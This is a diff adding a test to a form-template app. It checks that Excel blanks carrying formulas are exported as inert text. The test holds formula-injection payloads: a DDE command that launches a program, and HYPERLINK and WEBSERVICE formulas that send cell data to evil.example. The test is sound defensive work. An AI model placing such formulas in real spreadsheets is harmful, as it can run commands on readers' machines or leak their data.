@@ -307,3 +307,38 @@ async def test_an_open_session_cannot_guess_the_password_without_limit(app, engi
         assert _error(right)[:2] == (429, "SIGN_IN_LOCKED")
     async with browser(app) as elsewhere:
         assert _error(await sign_in(elsewhere, "probe-guess", PASSWORD))[:2] == (429, "SIGN_IN_LOCKED")
+
+
+# --- form onboarding ---------------------------------------------------------------------------------------
+
+
+async def test_a_blank_with_formulas_becomes_a_form_with_text_never_formulas(as_user):
+    """A blank's title, header and footer are copied into every export of its template: a formula there (a DDE
+    command, a link home) must come out as the text it was, not run in the reader's Excel."""
+    import io
+
+    from openpyxl import Workbook, load_workbook
+
+    from tests.test_onboarding import PROPOSE, SAVE, VILLAGE, b64
+
+    hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&B3,"点此")', "=WEBSERVICE(\"http://evil.example\")"]
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append([hostile[0]])
+    sheet.append(["户主姓名", "家庭住址", "保障人口", hostile[1]])
+    sheet.append([])
+    sheet.append([hostile[2]])
+    blank = io.BytesIO()
+    workbook.save(blank)
+    async with as_user("minzheng") as civil_affairs:
+        proposal = (await graphql(civil_affairs, PROPOSE, {"f": b64(blank.getvalue()), "id": "minzheng-probe-formulas"}))["proposeTemplate"]
+        assert proposal["errors"] == [], proposal
+        saved = (await graphql(civil_affairs, SAVE, {"d": proposal["definition"]}))["saveTemplate"]
+        assert saved["errors"] == [], saved
+        exported = await civil_affairs.get("/exports/minzheng-probe-formulas.xlsx", params={"region": VILLAGE})
+    assert exported.status_code == 200, exported.text
+    form = load_workbook(io.BytesIO(exported.content)).active
+    cells = [c for row in form.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    shown = {c.value for c in cells}
+    assert {hostile[0], hostile[1]} <= shown  # kept, as text
